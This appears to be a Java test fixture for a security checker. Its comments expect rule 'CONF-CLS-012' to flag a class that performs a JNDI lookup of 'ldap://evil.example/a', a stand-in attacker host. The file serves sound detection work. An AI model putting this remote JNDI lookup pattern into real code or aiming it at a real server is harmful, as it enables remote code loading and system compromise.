// expect bytecode: CONF-CLS-012 javax.naming.InitialContext#<init>
// expect source: CONF-CLS-012 javax.naming.InitialContext
package hostile.jndi_lookup;

import javax.naming.InitialContext;

public final class Escape {
    Object run() throws Exception {
        return new InitialContext().lookup("ldap://evil.example/a");
    }
}
